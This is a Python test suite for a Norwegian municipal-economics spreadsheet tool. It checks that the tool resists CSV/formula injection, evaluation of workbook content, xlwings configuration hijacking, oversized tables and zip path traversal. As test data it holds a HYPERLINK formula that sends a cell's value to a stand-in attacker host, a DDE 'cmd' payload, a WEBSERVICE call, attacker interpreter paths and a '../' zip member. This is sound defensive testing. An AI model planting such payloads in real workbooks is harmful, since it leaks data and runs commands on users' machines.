"""Hostile content: formulas smuggled in as text, code execution, workbook-borne configuration.

* Text from the data that begins with ``=``, ``+``, ``-`` or ``@`` reaches the output sheets as
  text (cell type ``s``), never as a formula; and the input cell stays text when the workbook is
  saved back.
* Nothing read from a workbook is evaluated: the package has no ``eval``/``exec``/``compile``,
  no pickle/marshal, and reads cell values as Excel stored them (``data_only``).
* The shipped examples and templates carry no xlwings configuration: no ``xlwings.conf`` sheet,
  no defined name or document property with an interpreter or PYTHONPATH, no macros, no paths
  (see docs/sikkerhet.md for what such a configuration could control).
* A table that claims the whole sheet (A1:XFD1048576) is read in bounded time and memory.
* Computation never writes: the service sees a workbook only through a read-only interface.
"""

from __future__ import annotations

import ast
import io
import re
import shutil
import time
import zipfile
from importlib import resources
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook.workbook import Workbook

from kommuneokonomi.errors import KommuneokonomiError
from kommuneokonomi.service import recalculate
from kommuneokonomi.workbook.build import (
    BUDGET_EXAMPLE,
    BUDGET_TEMPLATE,
    SAVINGS_EXAMPLE,
    SAVINGS_TEMPLATE,
)
from kommuneokonomi.workbook.files import FileBook
from kommuneokonomi.workbook.layout import DATA

from .helpers import cell_of, data_rows, digest, run_cli, table_sheet

REPO = Path(__file__).resolve().parents[2]
SHIPPED = [
    REPO / "workbooks" / n
    for n in (SAVINGS_EXAMPLE, BUDGET_EXAMPLE, SAVINGS_TEMPLATE, BUDGET_TEMPLATE)
]

INJECTIONS = {
    "Navn": [
        '=HYPERLINK("http://angriper.example/?"&A1,"Klikk her")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A2)",
        "=cmd|' /C calc'!A0",
    ],
}


def _put_text(wb: Workbook, table: str, header: str, row: int, text: str) -> tuple[str, str]:
    sheet, address = cell_of(wb, table, header, row)
    cell = wb[sheet][address]
    cell.value = text
    cell.data_type = "s"  # as Excel stores text typed with a leading apostrophe
    return sheet, address


def _sheet_xml(path: Path, sheet: str) -> str:
    """The XML of a sheet, by its name."""
    wb = openpyxl.load_workbook(path)
    index = wb.sheetnames.index(sheet) + 1
    with zipfile.ZipFile(path) as z:
        workbook = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.findall(r'<sheet [^>]*r:id="([^"]+)"', workbook)[index - 1]
        target = re.search(
            rf'Id="{rid}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="{rid}"', rels
        )
        assert target is not None
        part = (target.group(1) or target.group(2)).lstrip("/")
        return z.read(part if part.startswith("xl/") else "xl/" + part).decode()


def test_formula_like_text_in_data_is_written_as_text(built: Path, tmp_path: Path) -> None:
    path = tmp_path / SAVINGS_EXAMPLE
    shutil.copy(built / SAVINGS_EXAMPLE, path)
    wb = openpyxl.load_workbook(path)
    texts = INJECTIONS["Navn"]
    inputs = [_put_text(wb, "tblIndikatorer", "Navn", i, t) for i, t in enumerate(texts)]
    _put_text(wb, "tblIndikatorer", "Sektor", 0, "=1+1")
    wb.save(path)

    assert run_cli("recalc", path).code == 0  # in place: input sheets saved back too
    out = openpyxl.load_workbook(path)
    names = {r["Navn"] for r in data_rows(out, "tblInnsparing")}
    assert set(texts) <= names
    ws = table_sheet(out, "tblInnsparing")
    typed = {
        c.value: c.data_type
        for row in ws.iter_rows()
        for c in row
        if c.value in set(texts) | {"=1+1"}
    }
    assert set(typed) == set(texts) | {"=1+1"}
    assert set(typed.values()) == {"s"}, typed
    for sheet, address in inputs:  # the input cells are still text
        assert out[sheet][address].data_type == "s"
    xml = _sheet_xml(path, "Innsparing")
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and all(f.startswith(("SUMIF(", "SUM(")) for f in formulas), formulas
    assert "HYPERLINK" not in "".join(formulas) and "cmd|" not in "".join(formulas)


def test_formula_like_text_in_budget_names(built: Path, tmp_path: Path) -> None:
    path = tmp_path / BUDGET_EXAMPLE
    shutil.copy(built / BUDGET_EXAMPLE, path)
    wb = openpyxl.load_workbook(path)
    _put_text(wb, "tblMaltall", "Måltall", 0, "=cmd|' /C calc'!A0")
    _put_text(wb, "tblMaltall", "Måltall", 1, "@SUM(1)")
    wb.save(path)
    out = tmp_path / "ut.xlsx"
    assert run_cli("recalc", path, "-o", out).code == 0
    ws = table_sheet(openpyxl.load_workbook(out), "tblKontroller")
    cells = [
        c for row in ws.iter_rows() for c in row if c.value in {"=cmd|' /C calc'!A0", "@SUM(1)"}
    ]
    assert len(cells) == 2 and {c.data_type for c in cells} == {"s"}
    assert "cmd|" not in "".join(re.findall(r"<f>(.*?)</f>", _sheet_xml(out, "Kontroller")))


def test_control_characters_in_text_do_not_break_writing(built: Path, tmp_path: Path) -> None:
    """Text a live book can hold but the file format cannot (control characters)."""
    from kommuneokonomi.workbook.files import _plain

    assert _plain("navn\x07med\x1bkontroll") == "navn\ufffdmed\ufffdkontroll"
    assert _plain(float("inf")) is None and _plain(float("nan")) is None


# --- no evaluation of anything read ------------------------------------------------------------

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
FORBIDDEN_MODULES = {"pickle", "marshal", "shelve", "dill", "cloudpickle", "yaml"}


def _package_sources() -> list[Path]:
    root = Path(str(resources.files("kommuneokonomi")))
    return sorted(root.rglob("*.py"))


def test_no_eval_or_exec_in_the_package() -> None:
    problems = []
    for path in _package_sources():
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Name)
                and node.func.id in FORBIDDEN_CALLS
            ):
                problems.append(f"{path.name}:{node.lineno} {node.func.id}()")
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = (
                    [a.name for a in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                )
                for name in names:
                    if name.split(".")[0] in FORBIDDEN_MODULES:
                        problems.append(f"{path.name}:{node.lineno} import {name}")
    assert problems == []


def test_formulas_in_input_are_never_evaluated(built: Path, tmp_path: Path) -> None:
    """A formula in an input cell counts as the value Excel stored for it; our code does not
    compute it. openpyxl writes no stored value, so here it reads as empty (missing)."""
    path = tmp_path / SAVINGS_EXAMPLE
    shutil.copy(built / SAVINGS_EXAMPLE, path)
    wb = openpyxl.load_workbook(path)
    sheet, address = cell_of(wb, "tblData", "Verdi", 0)
    wb[sheet][address] = '=WEBSERVICE("http://angriper.example")'
    wb.save(path)
    raw = FileBook(path).read_table(DATA)
    assert raw.rows[0][3] is None


# --- xlwings configuration in shipped workbooks --------------------------------------------------

CONFIG_WORDS = re.compile(
    rb"INTERPRETER|PYTHONPATH|CONDA|UDF MODULES|xlwings|\.conf\b", re.IGNORECASE
)
PATHS = re.compile(
    rb"[A-Za-z]:\\\\|[A-Za-z]:\\[A-Za-z]|/home/|/Users/|/root/|%USERPROFILE%|%APPDATA%"
)


@pytest.fixture(params=["committed", "built"])
def shipped(request: pytest.FixtureRequest, built: Path) -> list[Path]:
    if request.param == "committed":
        return SHIPPED
    return [built / p.name for p in SHIPPED]


def test_shipped_workbooks_carry_no_xlwings_configuration(shipped: list[Path]) -> None:
    for path in shipped:
        wb = openpyxl.load_workbook(path)
        assert not [s for s in wb.sheetnames if s.lower().lstrip("_").endswith(".conf")], path
        assert not [n for n in wb.defined_names if CONFIG_WORDS.search(n.encode())], path
        for name, defined in wb.defined_names.items():
            assert not CONFIG_WORDS.search(str(defined.value).encode()), (path, name)
        with zipfile.ZipFile(path) as z:
            names = z.namelist()
            assert "docProps/custom.xml" not in names, path  # no custom document properties
            assert not [n for n in names if "vba" in n.lower() or n.endswith(".bin")], path
            assert not [n for n in names if "externalLink" in n], path
            for member in names:
                data = z.read(member)
                assert not CONFIG_WORDS.search(data), (path, member)
                assert not PATHS.search(data), (path, member)


def test_a_workbook_xlwings_conf_sheet_is_just_a_sheet(built: Path, tmp_path: Path) -> None:
    """A user's book may have an ``xlwings.conf`` sheet (e.g. from another tool): our code reads
    only the named tables, never the sheet; the add-in's VBA ignores it (docs/sikkerhet.md)."""
    path = tmp_path / SAVINGS_EXAMPLE
    shutil.copy(built / SAVINGS_EXAMPLE, path)
    wb = openpyxl.load_workbook(path)
    conf = wb.create_sheet("xlwings.conf")
    conf.append(["INTERPRETER_WIN", r"C:\\angriper\\python.exe"])
    conf.append(["PYTHONPATH", r"\\\\angriper\\share"])
    wb.save(path)
    before = digest(path)
    assert run_cli("check", path).code == 0
    assert digest(path) == before
    xlwings_bas = REPO / "addin" / "src" / "xlwings.bas"
    if xlwings_bas.exists():
        vba = xlwings_bas.read_text(encoding="utf-8", errors="replace")
        assert "If False Then ' kommuneokonomi: never read settings from the active workbook" in vba
        assert (
            "If False Then ' kommuneokonomi: never read settings from the workbook's folder" in vba
        )


# --- bounded work on hostile tables ---------------------------------------------------------------


def test_table_claiming_the_whole_sheet(built: Path, tmp_path: Path) -> None:
    path = tmp_path / SAVINGS_EXAMPLE
    shutil.copy(built / SAVINGS_EXAMPLE, path)
    wb = openpyxl.load_workbook(path)
    ws = table_sheet(wb, "tblKommuner")
    ws.tables["tblKommuner"].ref = "A1:XFD1048576"
    ws.tables["tblKommuner"].autoFilter = None
    wb.save(path)
    started = time.monotonic()
    run = run_cli("check", path)
    assert time.monotonic() - started < 20
    assert run.code in (0, 2), run
    assert "Traceback" not in run.err


def test_computation_never_writes(built: Path) -> None:
    """The service gets a reader that has nothing but ``name``, ``table_names`` and
    ``read_table``: anything else (a write) would raise AttributeError."""

    class ReadOnly:
        def __init__(self, book: FileBook) -> None:
            self._book = book

        @property
        def name(self) -> str:
            return self._book.name

        def table_names(self) -> set[str]:
            return self._book.table_names()

        def read_table(self, spec):  # type: ignore[no-untyped-def]
            return self._book.read_table(spec)

    for example in (SAVINGS_EXAMPLE, BUDGET_EXAMPLE):
        result = recalculate(ReadOnly(FileBook(built / example)))
        assert result.sheets
    with pytest.raises(KommuneokonomiError):
        recalculate(ReadOnly(FileBook(built / SAVINGS_TEMPLATE)))


def test_zip_member_names_cannot_escape(built: Path, tmp_path: Path) -> None:
    """A member named ``../../x`` is never extracted: packages are read in memory only."""
    source = (built / SAVINGS_EXAMPLE).read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        zout.writestr("../../utenfor.txt", b"x")
    path = tmp_path / "sub" / "bok.xlsx"
    path.parent.mkdir()
    path.write_bytes(out.getvalue())
    run = run_cli("recalc", path, "-o", tmp_path / "sub" / "ut.xlsx")
    assert run.code == 0, run.err
    assert (
        not (tmp_path / "utenfor.txt").exists() and not (tmp_path.parent / "utenfor.txt").exists()
    )
